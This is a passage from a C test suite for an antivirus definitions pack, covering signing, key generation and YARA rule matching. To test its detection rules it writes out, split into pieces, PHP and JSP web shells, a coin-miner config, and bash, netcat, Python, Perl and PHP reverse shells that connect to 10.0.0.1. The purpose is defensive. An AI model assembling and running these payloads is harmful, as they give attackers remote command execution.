        ck_assert_int_eq(access(P("out"), F_OK), -1);

        /* A rule that does not compile. */
        ck_assert_int_eq(unlink(P("src/hashes/bad.tsv")), 0);
        write_string(P("src/rules/b.yar"), "rule b { condition: undefined_thing }\n");
        err = mfree(err);
        ck_assert_int_eq(run_tool(&err, "build", "--key", key, "--version", "1", "--out",
                                  P("out"), P("src"), NULL), 1);
        ck_assert_ptr_nonnull(strstr(err, "rules/b.yar:1: error:"));

        /* A public key as the signing key. */
        ck_assert_int_eq(unlink(P("src/rules/b.yar")), 0);
        snprintf(key, sizeof(key), "%s/keys/test-signing-key.pub.pem", DEFINITIONS_SOURCE_DIR);
        err = mfree(err);
        ck_assert_int_eq(run_tool(&err, "build", "--key", key, "--version", "1", "--out",
                                  P("out"), P("src"), NULL), 1);
        ck_assert_ptr_nonnull(strstr(err, "not a PEM private key"));

        /* Refuses to replace a directory that is not a pack. */
        snprintf(key, sizeof(key), "%s/keys/test-signing-key.pem", DEFINITIONS_SOURCE_DIR);
        write_string(P("notapack/precious"), "x");
        err = mfree(err);
        ck_assert_int_eq(run_tool(&err, "build", "--key", key, "--version", "1", "--out",
                                  P("notapack"), P("src"), NULL), 1);
        ck_assert_ptr_nonnull(strstr(err, "neither empty nor a pack"));
        ck_assert_int_eq(access(P("notapack/precious"), F_OK), 0);
}
END_TEST

START_TEST(test_tool_keygen) {
        _cleanup_(evp_pkey_freep) EVP_PKEY *pub = NULL;
        _cleanup_(definition_pack_freep) DefinitionPack *p = NULL;
        _cleanup_free_ char *err = NULL;
        struct stat st;

        ck_assert_int_eq(run_tool(NULL, "keygen", "--out-private", P("k.pem"), "--out-public",
                                  P("k.pub.pem"), NULL), 0);
        ck_assert_int_eq(stat(P("k.pem"), &st), 0);
        ck_assert_uint_eq(st.st_mode & 07777, 0600);
        ck_assert_int_eq(definitions_public_key_load_pem(P("k.pub.pem"), &pub), 0);

        /* Refuses to overwrite. */
        ck_assert_int_eq(run_tool(&err, "keygen", "--out-private", P("k.pem"), "--out-public",
                                  P("k2.pub.pem"), NULL), 1);
        ck_assert_ptr_nonnull(strstr(err, "File exists"));

        /* The new key signs packs that verify with its public half. */
        write_string(P("src/hashes/h.tsv"), SHA_A "\tVirus:Linux/K\tvirus\n");
        ck_assert_int_eq(run_tool(NULL, "build", "--key", P("k.pem"), "--version", "7.1",
                                  "--minimum-engine-version", "0.0.1", "--out", P("out"),
                                  P("src"), NULL), 0);
        ck_assert_int_eq(definitions_pack_load(P("out"), pub, ENGINE, &p, NULL), 0);
        ck_assert_str_eq(p->version, "7.1");
        ck_assert_str_eq(p->minimum_engine_version, "0.0.1");
        ck_assert_uint_eq(p->n_rules, 0);
        ck_assert_uint_eq(p->n_hashes, 1);
}
END_TEST

START_TEST(test_built_default_pack) {
        _cleanup_(definition_pack_freep) DefinitionPack *p = NULL;
        _cleanup_(evp_pkey_freep) EVP_PKEY *pub = NULL;
        _cleanup_free_ char *message = NULL;

        /* The pack the build produced, with the public key the build installs. */
        ck_assert_int_eq(definitions_public_key_load_pem(DEFINITIONS_PUBLIC_KEY, &pub), 0);
        ck_assert_msg(definitions_pack_load(DEFINITIONS_DEFAULT_PACK_DIR, pub,
                                            DEFINITIONS_ENGINE_VERSION, &p, &message) == 0,
                      "%s", strnull(message));
        check_default_pack(p);
}
END_TEST

/* ---------------------------------------------------------------------------------------- */
/* The default rules, with libyara */

typedef struct Compiled {
        unsigned errors;
        char message[512];
} Compiled;

static void yara_error(int level, const char *file, int line, const YR_RULE *rule,
                       const char *message, void *userdata) {
        Compiled *c = userdata;

        if (level != YARA_ERROR_LEVEL_ERROR)
                return;
        c->errors++;
        snprintf(c->message, sizeof(c->message), "line %d: %s", line, message);
}

/* Compiles the given .yar sources (NULL-terminated list of paths) into rules. */
static YR_RULES *compile(char **paths) {
        YR_COMPILER *compiler = NULL;
        YR_RULES *rules = NULL;
        Compiled c = {};

        ck_assert_int_eq(yr_compiler_create(&compiler), ERROR_SUCCESS);
        yr_compiler_set_callback(compiler, yara_error, &c);
        for (char **p = paths; *p; p++) {
                _cleanup_free_ char *text = NULL;
                size_t size;

                text = read_whole(*p, &size);
                ck_assert_msg(yr_compiler_add_string(compiler, text, NULL) == 0 && c.errors == 0,
                              "%s: %s", *p, c.message);
        }
        ck_assert_int_eq(yr_compiler_get_rules(compiler, &rules), ERROR_SUCCESS);
        yr_compiler_destroy(compiler);
        return rules;
}

static char **default_rule_paths(void) {
        char dir[PATH_MAX];
        char **paths = NULL;
        struct dirent *de;
        DIR *d;

        snprintf(dir, sizeof(dir), "%s/default/rules", DEFINITIONS_SOURCE_DIR);
        d = opendir(dir);
        ck_assert_ptr_nonnull(d);
        while ((de = readdir(d))) {
                size_t len = strlen(de->d_name);
                char *p;

                if (len < 5 || !streq(de->d_name + len - 4, ".yar"))
                        continue;
                ck_assert_int_ge(asprintf(&p, "%s/%s", dir, de->d_name), 0);
                ck_assert_int_eq(strv_consume(&paths, p), 0);
        }
        closedir(d);
        ck_assert_uint_ge(strv_length(paths), 5);
        return paths;
}

typedef struct Match {
        char name[256], type[128];
        unsigned n;
} Match;

static int scan_callback(YR_SCAN_CONTEXT *context, int message, void *data, void *userdata) {
        Match *m = userdata;
        const YR_RULE *rule = data;
        const YR_META *meta;

        if (message != CALLBACK_MSG_RULE_MATCHING)
                return CALLBACK_CONTINUE;
        if (m->n++ == 0)
                yr_rule_metas_foreach(rule, meta) {
                        if (meta->type != META_TYPE_STRING)
                                continue;
                        if (streq(meta->identifier, "threat_name"))
                                snprintf(m->name, sizeof(m->name), "%s", meta->string);
                        if (streq(meta->identifier, "threat_type"))
                                snprintf(m->type, sizeof(m->type), "%s", meta->string);
                }
        return CALLBACK_CONTINUE;
}

static Match scan(YR_RULES *rules, const void *data, size_t size) {
        Match m = {};

        ck_assert_int_eq(yr_rules_scan_mem(rules, data, size, SCAN_FLAGS_NO_TRYCATCH,
                                           scan_callback, &m, 10), ERROR_SUCCESS);
        return m;
}

static void expect(YR_RULES *rules, const char *sample, size_t size, const char *name,
                   const char *type) {
        Match m = scan(rules, sample, size);

        if (!name) {
                ck_assert_msg(m.n == 0, "unexpected match %s on '%.40s'", m.name, sample);
                return;
        }
        ck_assert_msg(m.n == 1, "%u matches on '%.60s', expected %s", m.n, sample, name);
        ck_assert_str_eq(m.name, name);
        ck_assert_str_eq(m.type, type);
}

#define EXPECT(rules, s, name, type) expect((rules), (s), strlen(s), (name), (type))

/* EXPECT for a sample given as pieces, joined at run time (sample.h). */
#define EXPECT_PIECES(rules, name, type, ...)                                                   \
        do {                                                                                    \
                char _buf[512];                                                                 \
                                                                                                \
                EXPECT((rules), sample_join(_buf, sizeof(_buf), __VA_ARGS__, NULL), (name),     \
                       (type));                                                                 \
        } while (0)

/* The EICAR string from two halves, so that this file does not contain it. */
static void eicar(char buf[69]) {
        sample_join(buf, 69, SAMPLE_EICAR_1, SAMPLE_EICAR_2, NULL);
}

START_TEST(test_default_rules_compile_and_match) {
        _cleanup_strv_free_ char **paths = default_rule_paths();
        char e[69], buf[256];
        YR_RULES *rules;

        ck_assert_int_eq(yr_initialize(), ERROR_SUCCESS);
        /* Each file alone... */
        for (char **p = paths; *p; p++) {
                char *one[] = { *p, NULL };

                yr_rules_destroy(compile(one));
        }
        /* ...and all together (rule names are unique across the pack). */
        rules = compile(paths);

        eicar(e);
        ck_assert_uint_eq(strlen(e), 68);
        EXPECT(rules, e, "Virus:DOS/EICAR_Test_File", "virus");
        snprintf(buf, sizeof(buf), "%s\r\n \t\x1a", e);
        EXPECT(rules, buf, "Virus:DOS/EICAR_Test_File", "virus");
        snprintf(buf, sizeof(buf), "%s%60s", e, "");                    /* 128 bytes */
        EXPECT(rules, buf, "Virus:DOS/EICAR_Test_File", "virus");
        snprintf(buf, sizeof(buf), "%s%61s", e, "");                    /* 129 bytes */
        EXPECT(rules, buf, NULL, NULL);
        snprintf(buf, sizeof(buf), "%sx", e);
        EXPECT(rules, buf, NULL, NULL);
        snprintf(buf, sizeof(buf), " %s", e);
        EXPECT(rules, buf, NULL, NULL);

        EXPECT_PIECES(rules, "PUA:Linux/MdatpPuaTest", "potentially_unwanted_application",
                      "MDATP-PUA-", "TEST-FILE\n");
        EXPECT_PIECES(rules, NULL, NULL, "see MDATP-PUA-", "TEST-FILE\n");

        EXPECT_PIECES(rules, "Backdoor:PHP/WebShell.Eval", "backdoor",
                      "<", "?php @eval($_PO", "ST['cmd']);?>");
        EXPECT_PIECES(rules, "Backdoor:PHP/WebShell.Eval", "backdoor",
                      "<", "?php\nassert(base64_decode($_REQ", "UEST[\"z\"]));\n");
        EXPECT_PIECES(rules, "Backdoor:PHP/WebShell.Eval", "backdoor",
                      "<", "?php $_POST['f']($_PO", "ST['a']); ?>");
        EXPECT_PIECES(rules, "Backdoor:PHP/WebShell.Exec", "backdoor",
                      "<", "?php echo shell_exec($_G", "ET['c']); ?>");
        EXPECT_PIECES(rules, "Backdoor:JSP/WebShell.Exec", "backdoor",
                      "<", "% Process p = Runtime.getRuntime().ex", "ec(request.getPara",
                      "meter(\"c\")); java.io.InputStream i = p.getInp", "utStream(); %>");
        EXPECT_PIECES(rules, NULL, NULL, "<", "?php\n$cmd = 'ls';\nexec('ls -l', $out);\n",
                      "echo htmlspecialchars($_G", "ET['name']);\neval('return 1;');\n");
        EXPECT_PIECES(rules, NULL, NULL, "<", "% String n = request.getPara",
                      "meter(\"name\"); out.println(n); %>");

        EXPECT_PIECES(rules, "Trojan:Linux/CoinMiner.Config", "trojan",
                      "{\n \"donate-", "level\": 1,\n \"po", "ols\": [{\"al", "go\": \"rx/0\", ",
                      "\"url\": \"stratum", "+tcp://pool.example.net:3333\", \"keep",
                      "alive\": true}]\n}\n");
        EXPECT_PIECES(rules, NULL, NULL, "Mine with stratum", "+tcp://pool.example.net:3333 today\n");

        EXPECT_PIECES(rules, "Backdoor:Linux/ReverseShell.Bash", "backdoor",
                      "#!/bin/bash\nbash -", "i >& /dev/", "tcp/10.0.0.1/4444 0>", "&1\n");
        EXPECT_PIECES(rules, NULL, NULL, "#!/bin/bash\nexec 3<>/dev/", "tcp/localhost/80\ncat <&3\n");
        EXPECT_PIECES(rules, "Backdoor:Linux/ReverseShell.Netcat", "backdoor",
                      "n", "c -e /bin/", "sh 10.0.0.1 4444\n");
        EXPECT_PIECES(rules, "Backdoor:Linux/ReverseShell.Netcat", "backdoor",
                      "rm /tmp/f;mk", "fifo /tmp/f;cat /tmp/f|/bin/", "sh -i 2>&1|n",
                      "c 10.0.0.1 1 >/tmp/f\n");
        EXPECT_PIECES(rules, NULL, NULL, "n", "c -z localhost 5432 && echo up\n");
        EXPECT_PIECES(rules, "Backdoor:Python/ReverseShell", "backdoor",
                      "import socket,os,pty\ns=socket.", "socket()\ns.conn",
                      "ect((\"10.0.0.1\",1))\nos.dup", "2(s.fileno(),0)\npty.sp",
                      "awn(\"/bin/sh\")\n");
        EXPECT_PIECES(rules, NULL, NULL, "import socket\ns=socket.", "socket()\ns.conn",
                      "ect((\"example.com\",80))\n");
        EXPECT_PIECES(rules, "Backdoor:Perl/ReverseShell", "backdoor",
                      "use Socket;socket(S,PF_", "INET,SOCK_STREAM,0);open(STD",
                      "IN,\">&S\");exec(\"/bin/", "sh -i\");");
        EXPECT_PIECES(rules, "Backdoor:PHP/ReverseShell", "backdoor",
                      "$s=fsock", "open(\"10.0.0.1\",1);exec(\"/bin/", "sh -i <&3 >&3 2>&3\");");

        /* No rule matches the rule sources themselves, nor this test's source. */
        for (char **p = paths; *p; p++) {
                _cleanup_free_ char *text = NULL;
                size_t size;
                Match m;

                text = read_whole(*p, &size);
                m = scan(rules, text, size);
                ck_assert_msg(m.n == 0, "%s matches %s", *p, m.name);
        }
        {
                _cleanup_free_ char *text = NULL;
                size_t size;
                Match m;

                text = read_whole(DEFINITIONS_TEST_SOURCE, &size);
                m = scan(rules, text, size);
                ck_assert_msg(m.n == 0, "the test source matches %s", m.name);
        }
        {
                /* Nor its executable: adjacent literals would have put whole samples there. */
                _cleanup_free_ char *text = NULL;
                size_t size;
                Match m;

                text = read_whole("/proc/self/exe", &size);
                m = scan(rules, text, size);
                ck_assert_msg(m.n == 0, "the test executable matches %s", m.name);
        }

        yr_rules_destroy(rules);
        ck_assert_int_eq(yr_finalize(), ERROR_SUCCESS);
}
END_TEST

static Suite *definitions_suite(void) {
        Suite *s = suite_create("definitions");
        TCase *tc;

        tc = tcase_create("pack");
        tcase_add_checked_fixture(tc, setup_tmp, teardown_tmp);
        tcase_add_test(tc, test_good_pack);
        tcase_add_test(tc, test_load_at_and_raw_key);
        tcase_add_test(tc, test_bad_signature);
        tcase_add_test(tc, test_tampered_manifest);
        tcase_add_test(tc, test_wrong_key);
        tcase_add_test(tc, test_signature_missing_or_malformed);
        tcase_add_test(tc, test_tampered_rule_file);
        tcase_add_test(tc, test_missing_file);
        tcase_add_test(tc, test_extra_file_ignored);
        tcase_add_test(tc, test_path_dotdot_and_absolute);
        tcase_add_test(tc, test_symlink_as_file);
        tcase_add_test(tc, test_symlink_as_directory);
        tcase_add_test(tc, test_fifo_does_not_block);
        tcase_add_test(tc, test_oversized_manifest);
        tcase_add_test(tc, test_malformed_manifest_located);
        tcase_add_test(tc, test_minimum_engine_too_new);
        tcase_add_test(tc, test_yara_with_nul);
        tcase_add_test(tc, test_hash_duplicate_across_files);
        tcase_add_test(tc, test_bad_hash_list_in_pack);
        tcase_add_test(tc, test_public_key_pem);
        tcase_add_test(tc, test_public_key_is_test_key);
        suite_add_tcase(s, tc);

        tc = tcase_create("parsers");
        tcase_add_checked_fixture(tc, setup_tmp, teardown_tmp);
        tcase_add_loop_test(tc, test_manifest_cases, 0, (int) ELEMENTSOF(manifest_cases));
        tcase_add_test(tc, test_manifest_limits);
        tcase_add_test(tc, test_manifest_format_refuses_invalid);
        tcase_add_test(tc, test_version_compare);
        tcase_add_test(tc, test_time_parse);
        tcase_add_loop_test(tc, test_hash_list_cases, 0, (int) ELEMENTSOF(hash_cases));
        tcase_add_test(tc, test_hash_list_long_line);
        tcase_add_test(tc, test_path_rules);
        suite_add_tcase(s, tc);

        tc = tcase_create("store");
        tcase_add_checked_fixture(tc, setup_tmp, teardown_tmp);
        tcase_add_test(tc, test_store_install_and_load_best);
        tcase_add_test(tc, test_store_fallback_chain);
        tcase_add_test(tc, test_store_newest_wins);
        tcase_add_test(tc, test_store_symlinked_slot_refused);
        tcase_add_test(tc, test_store_shipped_missing);
        tcase_add_test(tc, test_store_crash_leftovers);
        tcase_add_test(tc, test_store_crash_between_renames_without_exchange);
        tcase_add_test(tc, test_store_install_without_exchange);
        tcase_add_test(tc, test_store_install_refuses_bad_pack);
        tcase_add_test(tc, test_store_restore_shipped);
        suite_add_tcase(s, tc);

        tc = tcase_create("default-pack");
        tcase_add_checked_fixture(tc, setup_tmp, teardown_tmp);
        tcase_set_timeout(tc, 120);
        tcase_add_test(tc, test_tool_builds_default_pack);
        tcase_add_test(tc, test_tool_errors);
        tcase_add_test(tc, test_tool_keygen);
        tcase_add_test(tc, test_built_default_pack);
        tcase_add_test(tc, test_default_rules_compile_and_match);
        suite_add_tcase(s, tc);

        return s;
}

int main(void) {
        SRunner *runner;
        int failed;

        key_a = EVP_PKEY_Q_keygen(NULL, NULL, "ED25519");
        key_b = EVP_PKEY_Q_keygen(NULL, NULL, "ED25519");
        if (!key_a || !key_b)
                return EXIT_FAILURE;
        pub_a = public_of(key_a);
        pub_b = public_of(key_b);
        if (!pub_a || !pub_b)
                return EXIT_FAILURE;

        runner = srunner_create(definitions_suite());
        srunner_run_all(runner, CK_NORMAL);
        failed = srunner_ntests_failed(runner);
        srunner_free(runner);

        EVP_PKEY_free(key_a);
        EVP_PKEY_free(key_b);
        EVP_PKEY_free(pub_a);
        EVP_PKEY_free(pub_b);
        return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
